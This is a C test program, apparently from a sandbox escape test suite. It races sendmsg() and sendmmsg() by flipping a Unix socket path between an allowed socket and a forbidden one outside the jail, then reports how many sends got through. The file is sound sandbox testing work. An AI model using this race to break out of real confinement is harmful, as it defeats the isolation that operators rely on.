/* e0107-toctou-sendmsg - argument TOCTOU on the msg_name of sendmsg()
 * and sendmmsg().
 *
 * Attack: sendmsg() takes its destination from a struct msghdr in the
 * program's memory, pointing to a sockaddr elsewhere in it: two levels of
 * pointers the kernel reads after any check (three for sendmmsg, whose
 * vector holds the msghdrs).  One thread flips the sun_path of that
 * sockaddr between the program's own datagram socket and a forbidden one
 * (a listener outside the jail that counts), while another thread sends,
 * by sendmsg and by sendmmsg in turn.
 * Source: Watson 2007 (sockaddr races in system call wrappers);
 * doc/races.md ("sendmsg/sendmmsg: msg_name ... read by the kernel from
 * the program's memory").
 * Usage: e0107-toctou-sendmsg OWN-DGRAM-SOCKET FORBIDDEN-DGRAM-SOCKET */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

static struct sockaddr_un sa;
static const char *allowed, *forbidden;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(allowed) + 1, lf = strlen(forbidden) + 1;
	while (!stop) {
		memcpy(sa.sun_path, forbidden, lf);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
		memcpy(sa.sun_path, allowed, la);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0107-toctou-sendmsg OWN-DGRAM-SOCKET FORBIDDEN-DGRAM-SOCKET");
	allowed = argv[1];
	forbidden = argv[2];
	unlink(allowed);
	socklen_t len = esc_unix_addr(&sa, allowed);
	int mine = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (mine < 0 || bind(mine, (struct sockaddr *)&sa, len) < 0)
		esc_die("bind own socket");
	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		esc_die("socket");
	struct iovec iov = { (void *)"x", 1 };
	struct msghdr m = { .msg_name = &sa, .msg_namelen = sizeof sa,
			    .msg_iov = &iov, .msg_iovlen = 1 };
	struct mmsghdr mm[2] = { { .msg_hdr = m }, { .msg_hdr = m } };
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long sent[2] = { 0, 0 }, refused[2] = { 0, 0 };	/* [1]: sendmmsg */
	int last = 0;
	char drain[16];
	esc_race_init(&r);
	while (esc_race_go(&r)) {
		int mmsg = r.tries % 2;
		int n = mmsg ? sendmmsg(s, mm, 2, MSG_DONTWAIT) : sendmsg(s, &m, MSG_DONTWAIT);
		if (n >= 0) {
			sent[mmsg]++;
		} else {
			refused[mmsg]++;
			last = errno;
		}
		while (recv(mine, drain, sizeof drain, MSG_DONTWAIT) > 0)
			;
	}
	printf("sendmsg race: %ld tries; sendmsg %ld sent, %ld refused; sendmmsg %ld sent, "
	       "%ld refused%s%s\n", r.tries, sent[0], refused[0], sent[1], refused[1],
	       refused[0] + refused[1] ? "; last " : "",
	       refused[0] + refused[1] ? esc_errno_name(last) : "");
	stop = 1;
	pthread_join(t, NULL);
	unlink(allowed);
	return 0;
}
